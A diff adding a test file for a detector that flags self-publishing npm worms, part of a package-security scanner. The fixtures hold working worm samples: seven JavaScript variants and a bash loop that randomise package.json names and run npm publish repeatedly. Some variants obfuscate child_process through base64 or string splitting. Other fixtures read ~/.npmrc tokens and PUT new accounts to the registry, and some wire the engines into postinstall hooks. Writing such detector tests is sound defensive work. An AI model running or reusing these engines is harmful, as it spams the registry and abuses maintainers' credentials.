@@ -1,0 +1,429 @@
+import { describe, expect, it } from 'vitest';
+import wormPayload from '../../src/detectors/worm-payload/index.js';
+import type { DetectorResult } from '../../src/detectors/types.js';
+import { levelForScore, scoreFindings } from '../../src/scoring/levels.js';
+import { factsFromFixture, type FixtureFile, type PackageFixture } from '../support/package-fixture.js';
+
+const publisher = { name: 'someone', email: 'someone@example.com' };
+
+function fixture(name: string, files: Record<string, FixtureFile>, manifest: Record<string, unknown> = {}): PackageFixture {
+  return {
+    name,
+    publisher,
+    versions: [{ version: '2.3.1', publishedAt: '2025-11-01T00:00:00.000Z', manifest: { description: '', ...manifest }, files }],
+  };
+}
+
+function run(f: PackageFixture): DetectorResult & { score: number; level: string; ids: string[] } {
+  const result = wormPayload.detect({ facts: factsFromFixture(f), options: wormPayload.meta.options.parse({}), now: new Date('2025-11-20') });
+  const score = scoreFindings(result.findings.map((x) => x.weight));
+  return { ...result, score, level: levelForScore(score), ids: result.findings.map((x) => x.messageId) };
+}
+
+const scaffold: Record<string, FixtureFile> = {
+  'README.md': 'This is a [Next.js](https://nextjs.org) project bootstrapped with `create-next-app`.\n',
+  'app/page.js': 'export default function Home() {\n  return <main>Hello</main>;\n}\n',
+  'next.config.mjs': 'const nextConfig = {};\nexport default nextConfig;\n',
+};
+
+const variants: [string, string, string][] = [
+  [
+    'CJS execSync, word-list names, setTimeout recursion',
+    'auto.js',
+    `const fs = require('fs');
+const { execSync } = require('child_process');
+const a = ['budi', 'sari', 'tempe', 'seblak'];
+const pick = () => a[Math.floor(Math.random() * a.length)];
+function go() {
+  const p = JSON.parse(fs.readFileSync('./package.json', 'utf8'));
+  delete p.private;
+  p.name = pick() + '-' + pick() + Math.floor(Math.random() * 99);
+  p.version = '1.0.' + Math.floor(Math.random() * 50);
+  fs.writeFileSync('./package.json', JSON.stringify(p, null, 2));
+  execSync('npm publish --access public');
+  setTimeout(go, 9000);
+}
+go();
+`,
+  ],
+  [
+    'spawn through an aliased, destructured child_process in an async while(true)',
+    'publishScript.js',
+    `const cp = require('child_process');
+const { spawn: launch } = cp;
+const fs = require('fs');
+const path = require('path');
+const file = path.join(process.cwd(), 'package.json');
+const wait = (ms) => new Promise((r) => setTimeout(r, ms));
+function freshName() { return 'pkg' + require('crypto').randomBytes(3).toString('hex'); }
+(async () => {
+  while (true) {
+    const m = JSON.parse(fs.readFileSync(file, 'utf8'));
+    m.name = freshName();
+    fs.writeFileSync(file, JSON.stringify(m));
+    await new Promise((done) => launch('npm', ['publish'], { stdio: 'inherit' }).on('close', done));
+    await wait(60000);
+  }
+})();
+`,
+  ],
+  [
+    'ESM namespace import, concatenated command, setInterval',
+    'index.js',
+    `import * as proc from 'node:child_process';
+import { readFileSync, writeFileSync } from 'node:fs';
+const digit = () => 1 + Math.floor(Math.random() * 5);
+setInterval(() => {
+  const manifest = JSON.parse(readFileSync('package.json', 'utf8'));
+  manifest.private = false;
+  manifest.version = [digit(), digit(), digit()].join('.');
+  writeFileSync('package.json', JSON.stringify(manifest));
+  proc.exec('np' + 'm pub' + 'lish');
+}, 7000);
+`,
+  ],
+  [
+    'execFile with a built argv array in a counted batch loop',
+    'lib/batch.cjs',
+    `var childProcess = require('child_process');
+var fs = require('fs');
+var verb = ['pub', 'lish'].join('');
+for (var i = 0; i < 500; i++) {
+  var pkg = JSON.parse(fs.readFileSync(__dirname + '/../package.json'));
+  pkg.name = 'tea-' + i + '-' + Date.now().toString(36);
+  pkg.version = '0.0.' + i;
+  fs.writeFileSync(__dirname + '/../package.json', JSON.stringify(pkg));
+  childProcess.execFileSync('npm', [verb, '--access=public']);
+}
+`,
+  ],
+  [
+    'zx tagged template in for(;;) with a spread rewrite',
+    'scripts/release.mjs',
+    `import { $ } from 'zx';
+import { readFile, writeFile } from 'node:fs/promises';
+const syllables = ['ka', 'lo', 'mi', 'ru', 'te'];
+const word = () => Array.from({ length: 3 }, () => syllables[Math.floor(Math.random() * syllables.length)]).join('');
+for (;;) {
+  const meta = JSON.parse(await readFile('./package.json', 'utf8'));
+  const next = { ...meta, name: word() + '-' + word(), version: '1.0.0' };
+  await writeFile('./package.json', JSON.stringify(next, null, 2));
+  await $\`npm publish\`;
+}
+`,
+  ],
+  [
+    'require of a concatenated module name, template-literal command, promise recursion',
+    'run.js',
+    `const m = require('child' + '_process');
+const fsp = require('fs').promises;
+const bin = 'npm';
+let n = 0;
+async function main() {
+  const raw = await fsp.readFile('package.json', 'utf8');
+  const pkg = JSON.parse(raw);
+  pkg.name = \`nova-sync-\${Math.random().toString(36).slice(2, 7)}\`;
+  await fsp.writeFile('package.json', JSON.stringify(pkg));
+  m.execSync(\`\${bin} publish --tag latest\`);
+  n++;
+  return new Promise((r) => setTimeout(r, 5000)).then(main);
+}
+main();
+`,
+  ],
+  [
+    'child_process name hidden in base64',
+    'worker.js',
+    `const runner = require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString());
+const fs = require('fs');
+setInterval(function () {
+  const j = JSON.parse(fs.readFileSync('package.json'));
+  j.version = Math.ceil(Math.random() * 5) + '.' + Math.ceil(Math.random() * 5) + '.' + Math.ceil(Math.random() * 5);
+  j.private = undefined;
+  fs.writeFileSync('package.json', JSON.stringify(j));
+  runner.execSync('npm publish');
+}, 8000);
+`,
+  ],
+];
+
+const shellWorm = `#!/bin/bash
+# republish forever
+while true; do
+  n=$RANDOM
+  npm pkg set name="rendang-kuy$n" version="1.$((RANDOM % 5)).$((RANDOM % 5))"
+  npm pkg delete private
+  npm publish --access public
+  sleep 8
+done
+`;
+
+describe('worm-payload: self-publishing engines reach high on their own', () => {
+  it.each(variants)('%s', (_label, file, code) => {
+    const r = run(fixture('x-' + file.replace(/\W/g, ''), { ...scaffold, [file]: code }));
+    const finding = r.findings.find((x) => x.messageId === 'selfPublishing');
+    expect(finding, JSON.stringify(r.findings, null, 1)).toBeDefined();
+    expect(finding!.evidence.file).toBe(file);
+    expect(finding!.evidence.analysis).toBe('ast');
+    expect(finding!.evidence.repetition).not.toBeNull();
+    expect(r.score).toBeGreaterThanOrEqual(70);
+  });
+
+  it('the shell-script form', () => {
+    const r = run(fixture('shell-worm', { ...scaffold, 'publish.sh': shellWorm }));
+    const finding = r.findings.find((x) => x.messageId === 'selfPublishing')!;
+    expect(finding.evidence).toMatchObject({ file: 'publish.sh', line: 7, analysis: 'shell' });
+    expect(finding.data?.traits).toMatch(/changes the package name/);
+    expect(finding.data?.traits).toMatch(/repeats/);
+    expect(r.score).toBeGreaterThanOrEqual(70);
+  });
+
+  it('shows each trait with its own line', () => {
+    const r = run(fixture('lines', { ...scaffold, 'auto.js': variants[0]![2] }));
+    const e = r.findings[0]!.evidence;
+    expect(e).toMatchObject({ line: 11, nameChange: { line: 8 }, privateChange: { line: 7 }, manifestRewrite: { line: 10 }, repetition: { kind: 'recursion' } });
+    expect((e.randomValues as { line: number }).line).toBe(8);
+  });
+
+  it('an engine an install hook runs is critical', () => {
+    const r = run(fixture('hooked', { ...scaffold, 'auto.js': variants[0]![2] }, { scripts: { postinstall: 'node auto.js' } }));
+    expect(r.ids).toContain('installTimeExecution');
+    expect(r.level).toBe('critical');
+  });
+
+  it('`npm publish` in an install hook itself escalates too', () => {
+    const r = run(fixture('hook-publish', { 'index.js': 'module.exports = 1;\n', 'bump.js': variants[2]![2] }, { scripts: { postinstall: 'npm version patch && npm publish' } }));
+    expect(r.ids).toContain('installTimeExecution');
+  });
+
+  it('falls back to token search for a file that does not parse, and says so', () => {
+    const typed = `import { execSync } from 'child_process';\nimport * as fs from 'fs';\nconst pkg: { name: string; version: string } = JSON.parse(fs.readFileSync('package.json', 'utf8'));\nwhile (true) {\n  pkg.name = 'n' + Math.random();\n  fs.writeFileSync('package.json', JSON.stringify(pkg));\n  execSync('npm publish');\n}\n`;
+    const r = run(fixture('typed', { ...scaffold, 'auto.ts': typed }));
+    const finding = r.findings.find((x) => x.messageId === 'selfPublishing')!;
+    expect(String(finding.evidence.analysis)).toMatch(/^token-search \(parse failed/);
+    expect(r.score).toBeGreaterThanOrEqual(70);
+  });
+});
+
+describe('worm-payload: registry manipulation and obfuscation', () => {
+  const accountMaker = `const https = require('https');
+const fs = require('fs');
+const os = require('os');
+const npmrc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
+function createUser(name) {
+  const body = JSON.stringify({ _id: 'org.couchdb.user:' + name, name, password: Math.random().toString(36), email: name + '@mail.example', type: 'user' });
+  const req = https.request({ host: 'registry.npmjs.org', path: '/-/user/org.couchdb.user:' + name, method: 'PUT', headers: { 'content-type': 'application/json' } });
+  req.end(body);
+}
+createUser('u' + Date.now());
+`;
+
+  it('reports account creation, registry PUT and token reads with their lines', () => {
+    const r = run(fixture('acct', { 'index.js': 'module.exports = {};\n', 'tools/user.js': accountMaker }));
+    const finding = r.findings.find((x) => x.messageId === 'registryManipulation')!;
+    expect(finding.data?.parts).toMatch(/account-creation/);
+    expect(finding.data?.parts).toMatch(/token-read/);
+    expect(finding.data?.parts).toMatch(/registry-put/);
+    expect(finding.weight).toBe(40);
+    expect(r.level).toBe('medium');
+  });
+
+  it('registry code reached from an install hook is critical with an engine, high alone', () => {
+    const r = run(fixture('acct-hook', { 'tools/user.js': accountMaker }, { scripts: { preinstall: 'node tools/user.js' } }));
+    expect(r.ids).toContain('installTimeExecution');
+    expect(r.score).toBeGreaterThanOrEqual(70);
+  });
+
+  it('obfuscation around an engine amplifies it; alone in a tiny package it is packed code', () => {
+    const packed = `var _0xa1b2=['\\x6e\\x70\\x6d\\x20\\x70\\x75\\x62\\x6c\\x69\\x73\\x68'];var _0xc3d4=function(_0xe5f6){return _0xa1b2[_0xe5f6];};var _0x1a2b=require('child_process');var _0x3c4d=require('fs');var _0x5e6f=JSON.parse(_0x3c4d.readFileSync('package.json'));var _0x7a8b=0;var _0x9c0d=1;var _0x2e3f=2;_0x5e6f.name='a'+Math.random();_0x3c4d.writeFileSync('package.json',JSON.stringify(_0x5e6f));setInterval(function(){_0x1a2b.execSync('npm publish');},9000);eval(Buffer.from('MQ==','base64').toString());`;
+    const engine = run(fixture('obf-engine', { 'index.js': packed }));
+    expect(engine.ids).toEqual(expect.arrayContaining(['selfPublishing', 'obfuscatedPayload']));
+    const alone = run(fixture('obf-alone', { 'index.js': `var _0xa1b2=['\\x61\\x62\\x63\\x64\\x65\\x66\\x67'];var _0x1f1=1,_0x2f2=2,_0x3f3=3,_0x4f4=4,_0x5f5=5,_0x6f6=6,_0x7f7=7,_0x8f8=8;module.exports=_0xa1b2[0]+_0x1f1+_0x2f2+_0x3f3+_0x4f4+_0x5f5+_0x6f6+_0x7f7+_0x8f8;` }));
+    expect(alone.ids).toEqual(['packedCode']);
+    expect(alone.score).toBeLessThan(40);
+  });
+});
+
+// Release tooling: real modules with exports, publish driven by arguments, versions bumped once, names untouched.
+const semanticReleaseLike: Record<string, FixtureFile> = {
+  'index.js': `const verifyNpm = require('./lib/verify');
+const prepareNpm = require('./lib/prepare');
+const publishNpm = require('./lib/publish');
+let verified = false;
+let prepared = false;
+async function verifyConditions(pluginConfig, context) {
+  await verifyNpm(pluginConfig, context);
+  verified = true;
+}
+async function prepare(pluginConfig, context) {
+  if (!verified) await verifyNpm(pluginConfig, context);
+  await prepareNpm(pluginConfig, context);
+  prepared = true;
+}
+async function publish(pluginConfig, context) {
+  if (!prepared) await prepareNpm(pluginConfig, context);
+  return publishNpm(pluginConfig, context);
+}
+module.exports = { verifyConditions, prepare, publish };
+`,
+  'lib/prepare.js': `const path = require('path');
+const execa = require('execa');
+module.exports = async function prepare({ pkgRoot }, { cwd, env, nextRelease: { version }, logger }) {
+  const basePath = pkgRoot ? path.resolve(cwd, String(pkgRoot)) : cwd;
+  logger.log('Write version %s to package.json in %s', version, basePath);
+  await execa('npm', ['version', version, '--userconfig', path.join(basePath, '.npmrc'), '--no-git-tag-version', '--allow-same-version'], { cwd: basePath, env });
+};
+`,
+  'lib/publish.js': `const path = require('path');
+const execa = require('execa');
+const getRegistry = require('./get-registry');
+module.exports = async function publish({ npmPublish, pkgRoot }, pkg, context) {
+  const { cwd, env, nextRelease: { version, channel }, logger } = context;
+  if (npmPublish === false || pkg.private === true) {
+    logger.log('Skip publishing to npm registry as npmPublish is false or package.json private property is true');
+    return false;
+  }
+  const basePath = pkgRoot ? path.resolve(cwd, pkgRoot) : cwd;
+  const registry = getRegistry(pkg, context);
+  const distTag = channel || 'latest';
+  logger.log('Publishing version %s to npm registry on dist-tag %s', version, distTag);
+  await execa('npm', ['publish', basePath, '--tag', distTag, '--registry', registry], { cwd, env });
+  return { name: 'npm package (@' + distTag + ' dist-tag)', url: 'https://www.npmjs.com/package/' + pkg.name };
+};
+`,
+  'lib/verify.js': `const AggregateError = require('aggregate-error');
+module.exports = async function verify(pluginConfig, context) {
+  const errors = [];
+  if (pluginConfig.npmPublish !== undefined && typeof pluginConfig.npmPublish !== 'boolean') errors.push(new Error('EINVALIDNPMPUBLISH'));
+  if (errors.length > 0) throw new AggregateError(errors);
+};
+`,
+  'lib/get-registry.js': `module.exports = ({ publishConfig: { registry } = {}, name }, { cwd, env }) => registry || env.NPM_CONFIG_REGISTRY || 'https://registry.npmjs.org/';
+`,
+  'README.md': '# release-npm-plugin\n\nPublish a npm package with `npm publish` as part of your release.\n\n| Step | Description |\n|---|---|\n| `prepare` | Update the package.json version |\n| `publish` | Publish the package on the npm registry |\n',
+};
+
+const changesetsLike: Record<string, FixtureFile> = {
+  'dist/index.cjs': `'use strict';
+const fs = require('fs/promises');
+const path = require('path');
+const { spawn } = require('child_process');
+function run(cmd, args, cwd) {
+  return new Promise((resolve, reject) => {
+    const child = spawn(cmd, args, { cwd, stdio: 'inherit' });
+    child.on('close', (code) => (code === 0 ? resolve() : reject(new Error(cmd + ' exited with ' + code))));
+  });
+}
+async function applyReleasePlan(releases, packages) {
+  for (const release of releases) {
+    const pkg = packages.find((p) => p.packageJson.name === release.name);
+    if (!pkg) continue;
+    const json = { ...pkg.packageJson, version: release.newVersion };
+    await fs.writeFile(path.join(pkg.dir, 'package.json'), JSON.stringify(json, null, 2) + '\\n');
+  }
+}
+async function publishPackages({ packages, tag, access }) {
+  const publishable = packages.filter((p) => !p.packageJson.private);
+  return Promise.all(publishable.map((pkg) => run('npm', ['publish', '--tag', tag, '--access', access], pkg.dir).then(() => pkg.packageJson.name)));
+}
+exports.applyReleasePlan = applyReleasePlan;
+exports.publishPackages = publishPackages;
+`,
+  'bin.js': "#!/usr/bin/env node\nrequire('./dist/cli.cjs');\n",
+  'dist/cli.cjs': `'use strict';
+const { applyReleasePlan, publishPackages } = require('./index.cjs');
+const [, , command, ...args] = process.argv;
+const tag = args.includes('--tag') ? args[args.indexOf('--tag') + 1] : 'latest';
+if (command === 'publish') publishPackages({ packages: [], tag, access: 'public' }).then((names) => console.log(names.join('\\n')));
+else if (command === 'version') applyReleasePlan([], []);
+else console.error('usage: release <version|publish>');
+`,
+  'README.md': '# monorepo-release\n\nVersion and publish the packages of a monorepo. `release publish` runs `npm publish` for each changed package.\n',
+};
+
+const publishLibraryLike: Record<string, FixtureFile> = {
+  'lib/index.js': `'use strict';
+const { fetch } = require('./fetch');
+const ssri = require('ssri');
+async function publish(manifest, tarballData, opts = {}) {
+  const registry = opts.registry || 'https://registry.npmjs.org/';
+  const spec = encodeURIComponent(manifest.name);
+  const integrity = ssri.fromData(tarballData, { algorithms: ['sha512'] });
+  const body = {
+    _id: manifest.name,
+    name: manifest.name,
+    'dist-tags': { [opts.defaultTag || 'latest']: manifest.version },
+    versions: { [manifest.version]: { ...manifest, dist: { integrity: integrity.toString() } } },
+    _attachments: { [manifest.name + '-' + manifest.version + '.tgz']: { content_type: 'application/octet-stream', data: tarballData.toString('base64'), length: tarballData.length } },
+  };
+  return fetch(registry + spec, { method: 'PUT', body, token: opts.token });
+}
+module.exports = { publish };
+`,
+  'lib/fetch.js': `'use strict';
+const https = require('https');
+exports.fetch = function fetch(url, { method, body, token }) {
+  return new Promise((resolve, reject) => {
+    const req = https.request(url, { method, headers: { authorization: token ? 'Bearer ' + token : undefined, 'content-type': 'application/json' } }, resolve);
+    req.on('error', reject);
+    req.end(JSON.stringify(body));
+  });
+};
+`,
+  'README.md': '# publish-client\n\nProgrammatic `npm publish`: `await publish(manifest, tarball, { token })`.\n',
+};
+
+const docsOnly: Record<string, FixtureFile> = {
+  'index.js': 'module.exports = function add(a, b) { return a + b; };\n',
+  'README.md': '# adder\n\n## Releasing\n\n1. `npm version patch`\n2. `npm publish`\n\nRun `npm publish --dry-run` first to see what would ship.\n',
+  'docs/RELEASING.md': 'To release, bump the version in package.json and run npm publish from a clean checkout.\n',
+};
+
+const legitimate: [string, Record<string, FixtureFile>, Record<string, unknown>][] = [
+  ['semantic-release-like npm plugin', semanticReleaseLike, { main: 'index.js', dependencies: { execa: '^5.0.0', 'aggregate-error': '^3.0.0' } }],
+  ['changesets-like monorepo publisher', changesetsLike, { main: 'dist/index.cjs', bin: { release: 'bin.js' } }],
+  ['np-like CLI shipping a one-off release script', {
+    'source/cli.js': "#!/usr/bin/env node\nimport meow from 'meow';\nimport np from './index.js';\nconst cli = meow('Usage: np <version>', { importMeta: import.meta, flags: { tag: { type: 'string' }, preview: { type: 'boolean' } } });\nawait np(cli.input[0], cli.flags);\n",
+    'source/index.js': "import { execa } from 'execa';\nimport { readPackage } from 'read-pkg';\nexport default async function np(input = 'patch', { tag, preview } = {}) {\n  const pkg = await readPackage();\n  await execa('npm', ['version', input]);\n  if (preview) return pkg;\n  await execa('npm', ['publish', ...(tag ? ['--tag', tag] : [])]);\n  await execa('git', ['push', '--follow-tags']);\n  return pkg;\n}\n",
+    'readme.md': '# np\n\n> A better `npm publish`\n',
+  }, { type: 'module', bin: { np: 'source/cli.js' }, exports: './source/index.js' }],
+  ['programmatic publish library (PUT to the registry)', publishLibraryLike, { main: 'lib/index.js', dependencies: { ssri: '^10.0.0' } }],
+  ['docs and README that mention npm publish', docsOnly, { main: 'index.js', scripts: { release: 'npm version patch && npm publish' } }],
+];
+
+describe('worm-payload: legitimate code that publishes on purpose stays low', () => {
+  it.each(legitimate)('%s', (_label, files, manifest) => {
+    const r = run(fixture('legit', files, manifest));
+    expect(r.score, JSON.stringify(r.findings, null, 1)).toBeLessThan(10);
+    expect(r.findings.some((f) => f.messageId === 'installTimeExecution')).toBe(false);
+  });
+
+  it('still notes that release tooling runs npm publish (weight, not silence)', () => {
+    const r = run(fixture('legit', changesetsLike, { main: 'dist/index.cjs' }));
+    expect(r.findings.find((f) => f.messageId === 'selfPublishing')?.data?.traits).toMatch(/exported release API/);
+    const split = run(fixture('legit', semanticReleaseLike, { main: 'index.js' }));
+    expect(split.findings.find((f) => f.messageId === 'publishCommand')?.evidence.file).toBe('lib/publish.js');
+  });
+
+  it('a worm trait in release tooling structure still counts: renaming packages is not release work', () => {
+    const renamed = { ...changesetsLike, 'dist/index.cjs': String(changesetsLike['dist/index.cjs']).replace('version: release.newVersion', "name: 'x' + Math.random(), version: release.newVersion") };
+    expect(run(fixture('legit', renamed, {})).score).toBeGreaterThanOrEqual(40);
+  });
+});
+
+describe('worm-payload: missing facts and caps', () => {
+  it('reports unavailable when the tarball was not read', () => {
+    const facts = factsFromFixture(fixture('x', { 'auto.js': variants[0]![2] }));
+    const r = wormPayload.detect({ facts: { ...facts, files: undefined }, options: wormPayload.meta.options.parse({}), now: new Date() });
+    expect(r.findings).toEqual([]);
+    expect(r.unavailable?.[0]?.signal).toBe('worm-payload');
+  });
+
+  it('stops at the file cap and says how many files were left unread', () => {
+    const files: Record<string, FixtureFile> = {};
+    for (let i = 0; i < 12; i++) files[`lib/f${i}.js`] = `module.exports = ${i};\n`;
+    const facts = factsFromFixture(fixture('many', files));
+    const r = wormPayload.detect({ facts, options: wormPayload.meta.options.parse({ maxFiles: 5 }), now: new Date() });
+    expect(r.unavailable?.find((u) => u.signal === 'code files')?.reason).toMatch(/^7 code files not read/);
+  });
+});
